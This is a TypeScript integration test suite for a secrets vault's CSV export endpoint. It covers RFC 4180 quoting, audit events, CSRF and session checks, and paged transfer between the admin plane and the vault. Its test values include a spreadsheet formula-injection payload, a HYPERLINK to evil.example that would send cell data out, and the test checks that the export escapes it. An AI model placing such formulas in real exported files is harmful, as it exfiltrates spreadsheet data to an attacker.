import { callVault, callVaultAttached } from '@coffer/bus';
import { sessionTokenHash } from '@coffer/crypto';
import { decodeExportPage, encodeJson } from '@coffer/protocol';
import { natsForTests, postgresAvailable } from '@coffer/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AdminStack, signIn, startAdminStack } from '../support/admin-stack.ts';

const available = (await postgresAvailable()) && (await natsForTests()) !== undefined;

type RecordType = 'pan' | 'ssn' | 'secret';

/** RFC 4180: CRLF between records; quoted fields may hold commas, CR, LF and doubled quotes. */
/** The rows of a complete export: it must end with the trailer line (issue 9 item 4a), which is no row. */
function parseCsv(body: string): string[][] {
  const trailer = /# coffer export complete: (\d+) records\r\n$/.exec(body);
  if (!trailer) throw new Error('the export has no trailer line: it is incomplete');
  const rows = parseCsvText(body.slice(0, trailer.index));
  if (rows.length - 1 !== Number(trailer[1])) throw new Error('the trailer counts other rows than the file has');
  return rows;
}

function parseCsvText(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i] as string;
    if (c === '"' && field === '') {
      for (i++; ; i++) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i++;
          } else break;
        } else field += text[i];
      }
      i++;
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`junk after a quoted field at ${i}`);
      continue;
    }
    if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === '\n') {
      throw new Error(`bare LF outside quotes at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (field !== '' || row.length) throw new Error('the last record does not end with CRLF');
  return rows;
}

const TRICKY = 'a,b "quoted"\nsecond line';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** 25 values of mixed types, with the ones a CSV writer gets wrong. */
function values(): [RecordType, string][] {
  const out: [RecordType, string][] = [];
  for (let i = 0; i < 8; i++) out.push(['pan', `4111${String(i).padStart(12, '0')}`]);
  for (let i = 0; i < 8; i++) out.push(['ssn', `123-45-${String(6780 + i)}`]);
  out.push(['secret', TRICKY]);
  out.push(['secret', FORMULA]);
  out.push(['secret', '+1-555-0100 call me']);
  out.push(['secret', '-2+3']);
  out.push(['secret', '@SUM(A1:A9)']);
  out.push(['secret', 'carriage\rreturn only']);
  out.push(['secret', 'plain secret, with a comma']);
  out.push(['secret', 'ünïcödé ✓ 秘密']);
  out.push(['secret', '"starts with a quote']);
  return out;
}

/** What a spreadsheet-safe cell holds for a value: a leading ' before anything that starts a formula. */
const expectedCell = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

describe.skipIf(!available)('POST /api/exports', () => {
  let stack: AdminStack;
  let auth: Awaited<ReturnType<typeof signIn>>;
  const stored = new Map<string, { type: RecordType; value: string; submittedAt: string }>();

  beforeAll(async () => {
    stack = await startAdminStack();
    // Both stored formats: version-1 blobs and version-2 blobs under record contexts.
    for (const [i, [type, value]] of values().entries()) {
      const id = await stack.addRecord(type, value, undefined, i % 2 === 0 ? 1 : 2);
      stored.set(id, { type, value, submittedAt: '' });
    }
    for (const r of await stack.db.owner<{ id: string; submitted_at: Date }[]>`SELECT id, submitted_at FROM records`) {
      const s = stored.get(r.id);
      if (s) s.submittedAt = r.submitted_at.toISOString();
    }
    auth = await signIn(stack.app);
  });
  afterAll(() => stack?.close());

  const exportCsv = (body: Record<string, unknown>, headers: Record<string, string> = {}) =>
    stack.app.inject({
      method: 'POST',
      url: '/api/exports',
      headers: { cookie: auth.cookie, 'x-coffer-csrf': auth.csrf, ...headers },
      payload: body,
    });

  const auditSince = (seq: number) =>
    stack.db.owner`SELECT seq, action, target, reason, outcome, details FROM audit_events
      WHERE seq > ${seq} ORDER BY seq`;
  /** Close exports begun over the bus directly, each with the 25 records it sent. */
  const finishExports = async (session: string, ids: string[]) => {
    for (const exportId of ids) {
      const done = { v: 1, session, exportId, count: 25, outcome: 'success', origin: '127.0.0.1 test' } as const;
      await callVault(stack.adminBus, 'export.finish', done);
    }
  };
  const headSeq = async () => Number((await stack.db.owner`SELECT coalesce(max(seq), 0) AS s FROM audit_events`)[0]?.s);

  it('streams every record as RFC 4180 CSV with exact values, no-store, audited at start and finish', async () => {
    expect(stored.size).toBe(25);
    const since = await headSeq();
    const reason = 'quarterly reconciliation, ticket FIN-2291';
    const res = await exportCsv({ reason });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith('id,type,value,submitted_at\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual(['id', 'type', 'value', 'submitted_at']);
    expect(rows).toHaveLength(25);
    const seen = new Set<string>();
    for (const row of rows) {
      expect(row).toHaveLength(4);
      const [id, type, cell, submittedAt] = row as [string, string, string, string];
      const s = stored.get(id);
      expect(s, `unexpected id ${id}`).toBeDefined();
      expect(seen.has(id)).toBe(false);
      seen.add(id);
      expect(type).toBe(s?.type);
      expect(cell).toBe(expectedCell(s?.value as string));
      expect(submittedAt).toBe(s?.submittedAt);
    }
    // The two cases named in the requirement, spelled out.
    const cells = rows.map((r) => r[2]);
    expect(cells).toContain(TRICKY);
    expect(cells).toContain(`'${FORMULA}`);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(res.body).toContain('"a,b ""quoted""\nsecond line"');

    const events = await auditSince(since);
    const start = events.find((e) => e.action === 'export.start');
    const finish = events.find((e) => e.action === 'export.finish');
    expect(start).toMatchObject({ reason, outcome: 'success', details: { type: null, from: null, to: null } });
    expect(finish).toMatchObject({ target: start?.target, outcome: 'success', details: { count: 25 } });
    expect(Number(start?.seq)).toBeLessThan(Number(finish?.seq));
  });

  it.each(['pan', 'ssn', 'secret'] as const)(
    'filters by type=%s; the count in the audit matches the rows',
    async (type) => {
      const since = await headSeq();
      const res = await exportCsv({ reason: `only the ${type} records`, type });
      expect(res.statusCode).toBe(200);
      const [, ...rows] = parseCsv(res.body);
      const expected = [...stored.entries()].filter(([, s]) => s.type === type);
      expect(rows).toHaveLength(expected.length);
      expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(expected.map(([id]) => id)));
      for (const row of rows) expect(row[1]).toBe(type);
      const events = await auditSince(since);
      expect(events.find((e) => e.action === 'export.start')).toMatchObject({
        reason: `only the ${type} records`,
        details: { type },
      });
      expect(events.find((e) => e.action === 'export.finish')).toMatchObject({
        outcome: 'success',
        details: { count: expected.length },
      });
    },
  );

  it('refuses an export without X-Coffer-CSRF: 403, audited as denied, no value and no export audited', async () => {
    const since = await headSeq();
    const res = await stack.app.inject({
      method: 'POST',
      url: '/api/exports',
      headers: { cookie: auth.cookie },
      payload: { reason: 'no csrf header here' },
    });
    expect(res.statusCode).toBe(403);
    expect(res.json().type).toBe('urn:coffer:problem:csrf');
    for (const { value } of stored.values()) expect(res.body).not.toContain(value);
    const events = await auditSince(since);
    expect(events.map((e) => `${e.action}:${e.outcome}`)).toEqual(['export:denied']);
  });

  it('refuses an export without a session (401) and with a short reason or an unknown type (400)', async () => {
    const none = await stack.app.inject({ method: 'POST', url: '/api/exports', payload: { reason: 'no session' } });
    expect(none.statusCode).toBe(401);
    expect((await exportCsv({ reason: 'ab' })).statusCode).toBe(400);
    expect((await exportCsv({ reason: 'bad type', type: 'iban' })).statusCode).toBe(400);
    expect((await exportCsv({ reason: 'extra field', limit: 1 })).statusCode).toBe(400);
  });

  /** Which admin operations the admin plane asked the vault for while `run` ran. */
  async function operationsDuring(run: () => Promise<unknown>, unknown: readonly string[] = []): Promise<string[]> {
    const bus = stack.adminBus;
    const request = bus.request.bind(bus);
    const ops: string[] = [];
    bus.request = async (subject, data, timeoutMs) => {
      const op = subject.slice(subject.lastIndexOf('.export.') + 1);
      ops.push(op);
      // An older vault: the operation is not in its table. It still signs its refusal (reply-auth
      // came first), so the admin plane falls back instead of refusing the reply.
      if (unknown.includes(op))
        return stack.signAsVault(op, data, encodeJson({ v: 1, ok: false, error: 'unknown-operation' }));
      return request(subject, data, timeoutMs);
    };
    try {
      await run();
    } finally {
      bus.request = request;
    }
    return ops.filter((op) => op.startsWith('export.'));
  }

  it("pages in reply frames, and reads an older vault's base64 and JSON pages the same (issue 14)", async () => {
    let framed = '';
    let chunked = '';
    let legacy = '';
    const viaBlock = await operationsDuring(async () => {
      framed = (await exportCsv({ reason: 'binary pages' })).body;
    });
    const viaChunk = await operationsDuring(async () => {
      chunked = (await exportCsv({ reason: 'a vault before frames' })).body;
    }, ['export.block']);
    const viaPage = await operationsDuring(async () => {
      legacy = (await exportCsv({ reason: 'an older vault' })).body;
    }, ['export.block', 'export.chunk']);
    expect(viaBlock).toEqual(['export.begin', 'export.block', 'export.finish']);
    expect(viaChunk).toEqual(['export.begin', 'export.block', 'export.chunk', 'export.finish']);
    expect(viaPage).toEqual(['export.begin', 'export.block', 'export.chunk', 'export.page', 'export.finish']);
    const sorted = (csv: string) => parseCsv(csv).slice(1).sort();
    expect(sorted(framed)).toHaveLength(25);
    expect(sorted(chunked)).toEqual(sorted(framed));
    expect(sorted(legacy)).toEqual(sorted(framed));
  });

  it('serves export.block pages as signed frames whose attachment is the export.chunk page, byte for byte', async () => {
    const session = sessionTokenHash(auth.token);
    const begin = () =>
      callVault(stack.adminBus, 'export.begin', { v: 1, session, reason: 'frame vs chunk', origin: '127.0.0.1 test' });
    const [framed, chunked] = [await begin(), await begin()];
    const bus = stack.adminBus;
    const request = bus.request.bind(bus);
    const wire: Uint8Array[] = [];
    bus.request = async (subject, data, timeoutMs) => {
      const bytes = await request(subject, data, timeoutMs);
      if (subject.endsWith('.export.block')) wire.push(bytes);
      return bytes;
    };
    try {
      for (let after: string | undefined; ; ) {
        const page = { v: 1 as const, session, limit: 7, ...(after ? { after } : {}) };
        const block = await callVaultAttached(stack.adminBus, 'export.block', { ...page, exportId: framed.exportId });
        const chunk = await callVault(stack.adminBus, 'export.chunk', { ...page, exportId: chunked.exportId });
        expect(block.attachment.equals(Buffer.from(chunk.page, 'base64'))).toBe(true);
        expect(block.result).toEqual({ done: chunk.done, wrappedDataKeys: chunk.wrappedDataKeys });
        after = decodeExportPage(block.attachment).at(-1)?.id;
        if (block.result.done) break;
      }
    } finally {
      bus.request = request;
    }
    expect(wire).toHaveLength(4); // 7 + 7 + 7 + 4
    // A frame (first byte 0, version 3), signed (flags 1): the page travels once, as it is.
    for (const bytes of wire) expect([...bytes.subarray(0, 3)]).toEqual([0, 3, 1]);
    // callVault refuses a reply with bytes it does not expect, rather than dropping them.
    await expect(
      callVault(stack.adminBus, 'export.block', { v: 1, session, exportId: framed.exportId, limit: 1 }),
    ).rejects.toThrow(/unexpected attachment/);
    await finishExports(session, [framed.exportId, chunked.exportId]);
  });

  it('serves export.chunk pages that decode to what export.page serves, page by page to the last', async () => {
    const session = sessionTokenHash(auth.token);
    const begin = () =>
      callVault(stack.adminBus, 'export.begin', { v: 1, session, reason: 'page formats', origin: '127.0.0.1 test' });
    const chunked = [];
    const begun = await begin();
    const pages: boolean[] = [];
    for (let after: string | undefined; ; ) {
      const reply = await callVault(stack.adminBus, 'export.chunk', {
        v: 1,
        session,
        exportId: begun.exportId,
        limit: 7,
        ...(after ? { after } : {}),
      });
      expect(reply.format).toBe(1);
      const records = decodeExportPage(Buffer.from(reply.page, 'base64'));
      chunked.push(...records);
      pages.push(reply.done);
      after = records.at(-1)?.id;
      if (reply.done) break;
    }
    expect(pages).toEqual([false, false, false, true]); // 7 + 7 + 7 + 4
    const old = await begin();
    const page = await callVault(stack.adminBus, 'export.page', { v: 1, session, exportId: old.exportId, limit: 100 });
    expect(chunked.map((r) => r.id)).toEqual(page.records.map((r) => r.id));
    chunked.forEach((r, i) => {
      const p = page.records[i];
      expect(r.sealed.toString('base64')).toBe(p?.sealed);
      expect(r.contextEnc?.toString('base64') ?? null).toBe(p?.contextEnc);
      expect([r.type, r.dataKeyId, r.submittedAt]).toEqual([p?.type, p?.dataKeyId, p?.submittedAt]);
    });
    expect(chunked.some((r) => r.contextEnc === null) && chunked.some((r) => r.contextEnc !== null)).toBe(true);
    await finishExports(session, [begun.exportId, old.exportId]);
  });
});
